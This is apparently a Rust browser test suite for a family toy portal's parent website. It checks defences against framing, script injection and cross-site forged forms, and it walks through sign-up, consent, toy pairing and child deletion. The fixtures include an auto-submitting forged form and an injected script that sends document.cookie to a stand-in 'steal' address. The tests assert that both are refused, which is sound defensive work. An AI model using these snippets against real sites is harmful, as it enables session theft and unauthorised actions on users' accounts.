//! The parent portal in a real browser: Debian's headless Chromium, driven through
//! chromedriver. The attacks a browser makes possible (framing, injected script, a forged
//! form from another site) are tried here, where the browser's own rules take part.

use crate::common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::common::api::{self, Session};
use crate::common::chromium::Chromium;
use crate::common::portal::{PASSWORD, guardian_with_family, start};
use crate::common::{Dirs, Fallible, Server, TestResult};
use fantoccini::Locator;
use fantoccini::key::Key;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// Another web site: answers every request with `html`. Returns its port.
async fn hostile_site(html: String) -> Fallible<u16> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    let html = Arc::new(html);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let html = html.clone();
            tokio::spawn(async move {
                let mut request = Vec::new();
                let mut buffer = [0u8; 4096];
                while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut buffer).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => request.extend_from_slice(&buffer[..n]),
                    }
                }
                let response = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{html}",
                    html.len()
                );
                let _ = stream.write_all(response.as_bytes()).await;
            });
        }
    });
    Ok(port)
}

/// How many violations of `directive` browsers reported, from the server's metrics.
async fn csp_violations(server: &Server, directive: &str) -> Fallible<u64> {
    let text = common::client()?.get(server.url("/metrics")).send().await?.text().await?;
    let prefix = format!("cubby_csp_violations_total{{directive=\"{directive}\"}} ");
    Ok(text.lines().find_map(|l| l.strip_prefix(&prefix)).map_or(Ok(0), str::parse)?)
}

/// Waits until browsers reported a violation of `directive` (reports are sent after the fact).
async fn wait_for_violation(server: &Server, directive: &str) -> Fallible<u64> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let count = csp_violations(server, directive).await?;
        if count > 0 {
            return Ok(count);
        }
        if Instant::now() > deadline {
            return Err(format!("no {directive} violation was reported").into());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// A guardian with a consented family, signed in to the portal in `browser`.
async fn signed_in_guardian(server: &Server, dirs: &Dirs, browser: &Chromium, email: &str) -> Fallible<(Session, String)> {
    let (guardian, family) = guardian_with_family(server, &dirs.outbox(), email, "The Testers").await?;
    browser.open(&server.url("/sign-in")).await?;
    browser.fill("sign-in", "email", email).await?;
    browser.fill("sign-in", "password", PASSWORD).await?;
    browser.submit("sign-in").await?;
    assert_eq!(browser.path().await?, "/", "signed in, the browser lands on the family page");
    Ok((guardian, family))
}

#[tokio::test]
async fn another_site_cannot_frame_the_portal() -> TestResult {
    let dirs = Dirs::new()?;
    let server = Server::start(&dirs.args(None))?;
    let browser = Chromium::start().await?;
    // The hostile page frames the sign-in page and, as a control, a page of its own.
    let port = hostile_site(format!(
        r#"<!doctype html><title>Win a prize</title>
           <iframe id="portal" src="{}"></iframe><iframe id="own" src="/own"></iframe>"#,
        server.url("/sign-in")
    ))
    .await?;
    browser.open(&format!("http://localhost:{port}/")).await?;
    tokio::time::sleep(Duration::from_millis(500)).await;

    browser.client.enter_frame(1).await?;
    let own = browser.client.find_all(Locator::Css("iframe")).await?;
    assert_eq!(own.len(), 2, "the control frame shows the hostile site's own page");
    browser.client.enter_parent_frame().await?;

    browser.client.enter_frame(0).await?;
    let forms = browser.client.find_all(Locator::Css("form")).await?;
    assert!(forms.is_empty(), "the portal rendered inside another site's frame");
    browser.client.enter_parent_frame().await?;

    assert!(wait_for_violation(&server, "frame-ancestors").await? >= 1);
    browser.quit().await?;
    Ok(())
}

#[tokio::test]
async fn an_injected_script_does_not_run_and_is_reported() -> TestResult {
    let dirs = Dirs::new()?;
    let server = Server::start(&dirs.args(None))?;
    let browser = Chromium::start().await?;
    browser.open(&server.url("/sign-in")).await?;
    // As if a nickname had smuggled markup into the page: the script element is inserted
    // into the live document, where only the page's policy decides whether it runs.
    let ran = browser
        .client
        .execute(
            r#"const s = document.createElement('script');
               s.textContent = 'document.title = "owned"';
               document.body.appendChild(s);
               const i = document.createElement('img');
               i.src = 'http://localhost:9/steal?c=' + encodeURIComponent(document.cookie);
               document.body.appendChild(i);
               return document.title === 'owned';"#,
            vec![],
        )
        .await?;
    assert_eq!(ran, serde_json::Value::Bool(false), "the injected script ran");
    assert!(wait_for_violation(&server, "script-src-elem").await? >= 1);
    assert!(wait_for_violation(&server, "img-src").await? >= 1);
    // What was reported is logged without page addresses (they may carry emailed tokens).
    assert!(server.logs().contains("a browser refused something on a portal page"));
    assert!(!server.logs().contains("steal?c="), "a reported address was logged in full");
    browser.quit().await?;
    Ok(())
}

#[tokio::test]
async fn a_form_posted_from_another_site_changes_nothing() -> TestResult {
    let dirs = Dirs::new()?;
    let server = Server::start(&dirs.args(None))?;
    let browser = Chromium::start().await?;
    let (guardian, family) = signed_in_guardian(&server, &dirs, &browser, "forged@example.com").await?;
    let forged = |nickname: &str| {
        format!(
            r#"<!doctype html><title>Free stickers</title>
               <form method="post" action="{}"><input name="nickname" value="{nickname}">
               <input name="age_band" value="6_8"></form>
               <script>document.forms[0].submit()</script>"#,
            server.url(&format!("/families/{family}/children"))
        )
    };

    // Another site (localhost is not 127.0.0.1's site): the SameSite=Strict cookie stays
    // home, so the post arrives without a session and is sent to sign in.
    let port = hostile_site(forged("CrossSite")).await?;
    browser.open(&format!("http://localhost:{port}/")).await?;
    wait_for_path(&browser, "/sign-in").await?;

    // Same site, another origin (127.0.0.1 on another port gets the cookie): the missing
    // CSRF token is what refuses it.
    let port = hostile_site(forged("SameSite")).await?;
    browser.open(&format!("http://127.0.0.1:{port}/")).await?;
    wait_for_path(&browser, &format!("/families/{family}/children")).await?;
    let text = browser.main_text().await?;
    assert!(text.contains("did not come from Cubby"), "{text}");

    assert!(api::nicknames(&server, &guardian, &family).await?.is_empty(), "a forged post added a child");
    // The real form still works in the same browser.
    browser.open(&server.url("/")).await?;
    browser.fill(&format!("add-child-{family}"), "nickname", "Real").await?;
    browser.submit(&format!("add-child-{family}")).await?;
    assert_eq!(api::nicknames(&server, &guardian, &family).await?, ["Real"]);
    browser.quit().await?;
    Ok(())
}

async fn wait_for_path(browser: &Chromium, path: &str) -> Fallible<()> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let now = browser.path().await?;
        if now == path {
            return Ok(());
        }
        if Instant::now() > deadline {
            return Err(format!("the browser is at {now}, not {path}").into());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Phone and desktop widths for the screenshots.
const PHONE: (u32, u32) = (390, 844);
const DESKTOP: (u32, u32) = (1280, 900);

/// Saves the current page at phone and desktop width (then back to desktop).
async fn screenshots(browser: &Chromium, name: &str) -> Fallible<()> {
    browser.screenshot(name, PHONE.0, PHONE.1).await?;
    browser.screenshot(name, DESKTOP.0, DESKTOP.1).await?;
    Ok(())
}

/// The `id` of the first form whose id starts with `prefix`.
async fn form_id(browser: &Chromium, prefix: &str) -> Fallible<String> {
    let form = browser.client.find(Locator::Css(&format!("form[id^=\"{prefix}\"]"))).await?;
    Ok(form.attr("id").await?.ok_or("a form without an id")?)
}

/// Waits for a mail to `to` about `subject` and returns the link it carries.
async fn mailed_token(dirs: &Dirs, to: &str, subject: &str) -> Fallible<String> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match api::outbox_token(&dirs.outbox(), to, subject) {
            Ok(token) => return Ok(token),
            Err(_) if Instant::now() < deadline => tokio::time::sleep(Duration::from_millis(50)).await,
            Err(error) => return Err(error),
        }
    }
}

/// A new parent, from sign-up to deleting the child, in a real browser; after each step the
/// page is read as a parent would, and the API is asked what really happened.
async fn a_parent_goes_from_sign_up_to_deleting_a_child(postgres: bool) -> TestResult {
    let dirs = Dirs::new()?;
    let server = start(&dirs, postgres).await?;
    let browser = Chromium::start().await?;
    let email = "maria@example.com";
    let shots = |name: &str| format!("{}-{name}", if postgres { "postgres" } else { "sqlite" });

    // Sign up: the address, a password, and where the notice is.
    browser.open(&server.url("/sign-up")).await?;
    screenshots(&browser, &shots("01-sign-up")).await?;
    browser.fill("sign-up", "email", email).await?;
    // Long enough for the browser's own check, too common for the server's.
    browser.fill("sign-up", "password", "password1234").await?;
    browser.submit("sign-up").await?;
    let refused = browser.client.find(Locator::Css("form#sign-up .error")).await?.text().await?;
    assert!(refused.contains("common"), "a weak password is explained beside the field: {refused}");
    browser.fill("sign-up", "email", email).await?;
    browser.fill("sign-up", "password", PASSWORD).await?;
    browser.submit("sign-up").await?;
    assert!(browser.main_text().await?.to_lowercase().contains("email"), "{}", browser.main_text().await?);

    // The emailed link opens a page whose button confirms the address.
    let token = mailed_token(&dirs, email, "Confirm your email").await?;
    browser.open(&server.url(&format!("/verify-email?token={token}"))).await?;
    browser.submit("verify-email").await?;
    browser.open(&server.url("/sign-in")).await?;
    browser.fill("sign-in", "email", email).await?;
    browser.fill("sign-in", "password", PASSWORD).await?;
    browser.submit("sign-in").await?;
    assert_eq!(browser.path().await?, "/");

    // A family, then consent as its own step: the whole notice, a box to tick, a mailed link.
    browser.fill("create-family", "name", "The Garcias").await?;
    browser.submit("create-family").await?;
    let maria = api::login(&server, email, PASSWORD).await?;
    let (_, families) = api::get(&server, "/api/v1/families", Some(&maria.token)).await?;
    let family = families[0]["id"].as_str().ok_or("no family")?.to_owned();
    assert_eq!(families[0]["name"], "The Garcias");
    browser.client.find(Locator::Css(&format!("a[href=\"/families/{family}/consent\"]"))).await?.click().await?;
    assert_eq!(browser.path().await?, format!("/families/{family}/consent"));
    let (_, notice) = api::get(&server, "/api/v1/privacy-notice", None).await?;
    let notice_page = browser.main_text().await?;
    for section in notice["sections"].as_array().ok_or("the notice has no sections")? {
        let heading = section["title"].as_str().ok_or("a section without a title")?;
        assert!(notice_page.contains(heading), "the consent page leaves out the notice's section {heading:?}");
    }
    screenshots(&browser, &shots("02-consent")).await?;
    browser.tick("consent", "agree").await?;
    browser.submit("consent").await?;
    let token = mailed_token(&dirs, email, "consent").await?;
    browser.open(&server.url(&format!("/confirm-consent?token={token}"))).await?;
    browser.submit("confirm-consent").await?;
    let (_, consent) = api::get(&server, &format!("/api/v1/families/{family}/consent"), Some(&maria.token)).await?;
    assert_eq!(consent["collection_valid"], true, "{consent}");

    // A child.
    browser.open(&server.url("/")).await?;
    let add_child = format!("add-child-{family}");
    browser.fill(&add_child, "nickname", "Lucía").await?;
    browser.choose(&add_child, "age_band", "6 to 8").await?;
    browser.submit(&add_child).await?;
    assert!(browser.main_text().await?.contains("Lucía"));
    let (_, children) = api::get(&server, &format!("/api/v1/families/{family}/children"), Some(&maria.token)).await?;
    assert_eq!(children[0]["nickname"], "Lucía");
    assert_eq!(children[0]["age_band"], "6_8");
    let child = children[0]["id"].as_str().ok_or("no child id")?.to_owned();
    screenshots(&browser, &shots("03-family")).await?;

    // A toy (the SDK) shows its code; the parent pairs it from the devices page.
    let toy = cubby_client::CubbyClient::with_http_client(&server.base_url, common::client()?);
    let key = cubby_client::DeviceKey::generate()?;
    let start = toy.start_pairing(&key, cubby_client::DeviceKind::Toy, "toy-os 1.0").await?;
    browser.client.find(Locator::Css(&format!("a[href=\"/families/{family}/devices\"]"))).await?.click().await?;
    // With the keyboard alone: Tab to the code, type it, Tab past the child (Lucía is the
    // only one) to the name, Enter.
    browser.tab_to("user_code").await?;
    let (tab, enter) = (Key::Tab.to_string(), Key::Enter.to_string());
    let typed = format!("{}{tab}{tab}Bunny{enter}", start.user_code);
    browser.next_page(|| browser.keyboard(&typed)).await?;
    let credential = toy.wait_for_pairing(&start, Duration::from_secs(30)).await?;
    let session = toy.authenticate(&key, &credential.device_id).await?;
    // The toy collects its credential after the approval: the page, reloaded, lists it.
    assert!(browser.main_text().await?.contains("Pair a toy"));
    browser.client.refresh().await?;
    let devices_page = browser.main_text().await?;
    assert!(devices_page.contains("Bunny") && devices_page.contains("active"), "{devices_page}");
    let (_, devices) = api::get(&server, &format!("/api/v1/families/{family}/devices"), Some(&maria.token)).await?;
    assert_eq!(devices[0]["name"], "Bunny");
    assert_eq!(devices[0]["child_id"].as_str(), Some(child.as_str()));

    // Quiet hours for the child, from the same page.
    let quiet = format!("quiet-hours-{child}");
    for (name, value) in [("start_0", "19:30"), ("end_0", "07:00")] {
        // Time inputs take their value as the browser's widget would set it.
        let field = browser.client.find(Locator::Css(&format!("form#{quiet} input[name=\"{name}\"]"))).await?;
        browser.client.execute("arguments[0].value = arguments[1]", vec![serde_json::to_value(&field)?, value.into()]).await?;
    }
    browser.submit(&quiet).await?;
    let (_, hours) = api::get(&server, &format!("/api/v1/families/{family}/children/{child}/quiet-hours"), Some(&maria.token)).await?;
    assert_eq!(hours["windows"][0]["start"], "19:30", "{hours}");
    assert_eq!(hours["windows"][0]["end"], "07:00", "{hours}");
    screenshots(&browser, &shots("04-devices")).await?;

    // A contact request: the page makes a code, another family redeems it, Maria approves.
    browser.client.find(Locator::Css(&format!("a[href=\"/families/{family}/contacts\"]"))).await?.click().await?;
    browser.submit(&format!("contact-code-{child}")).await?;
    let code = browser.client.find(Locator::Css(&format!("output#contact-code-{child}"))).await?.text().await?;
    let tom = api::guardian(&server, &dirs.outbox(), "tom@example.com", PASSWORD).await?;
    let smiths = api::family(&server, &tom, "The Smiths").await?;
    api::consent(&server, &dirs.outbox(), &tom, &smiths).await?;
    let ben = api::child(&server, &tom, &smiths, "Ben", "6_8").await?;
    api::redeem_contact_code(&server, &tom, &smiths, &ben, code.trim()).await?;
    browser.open(&server.url(&format!("/families/{family}/contacts"))).await?;
    assert!(browser.main_text().await?.contains("Ben"), "the request names the other child");
    screenshots(&browser, &shots("05-contacts")).await?;
    let approve = form_id(&browser, "approve-").await?;
    browser.submit(&approve).await?;
    let (_, contacts) = api::get(&server, &format!("/api/v1/families/{family}/children/{child}/contacts"), Some(&maria.token)).await?;
    assert_eq!(contacts[0]["status"], "approved", "{contacts}");

    // Everything the family holds, downloaded as a file.
    browser.client.find(Locator::Css(&format!("a[href=\"/families/{family}/privacy\"]"))).await?.click().await?;
    screenshots(&browser, &shots("06-privacy")).await?;
    browser.client.find(Locator::Css("a#download-family")).await?.click().await?;
    let archive = wait_for_download(&browser).await?;
    let archive: serde_json::Value = serde_json::from_slice(&std::fs::read(&archive)?)?;
    assert!(archive.to_string().contains("Lucía") && archive.to_string().contains("Bunny"), "{archive}");

    // Revoke the toy: the page says so and the toy is out.
    browser.open(&server.url(&format!("/families/{family}/devices"))).await?;
    browser.submit(&format!("revoke-{}", credential.device_id)).await?;
    assert!(browser.main_text().await?.contains("revoked"));
    assert!(toy.device_info(&session).await.is_err(), "a revoked toy's session still works");
    assert!(toy.authenticate(&key, &credential.device_id).await.is_err(), "a revoked toy signed in again");

    // Delete the child: only with the box ticked, and then the API has no child.
    browser.open(&server.url(&format!("/families/{family}/privacy"))).await?;
    let delete = format!("delete-child-{child}");
    browser.tick(&delete, "confirm").await?;
    browser.submit(&delete).await?;
    let (_, children) = api::get(&server, &format!("/api/v1/families/{family}/children"), Some(&maria.token)).await?;
    assert_eq!(children, serde_json::json!([]));
    assert!(!browser.main_text().await?.contains("Lucía"));
    browser.quit().await?;
    Ok(())
}

/// The file the browser downloaded (waits for it to be complete).
async fn wait_for_download(browser: &Chromium) -> Fallible<std::path::PathBuf> {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let done: Vec<_> = std::fs::read_dir(&browser.downloads)?
            .filter_map(Result::ok)
            .map(|e| e.path())
            .filter(|p| p.extension().is_some_and(|e| e == "json"))
            .collect();
        if let Some(file) = done.into_iter().next() {
            return Ok(file);
        }
        if Instant::now() > deadline {
            return Err("the download never completed".into());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

on_both_engines!(a_parent_goes_from_sign_up_to_deleting_a_child);
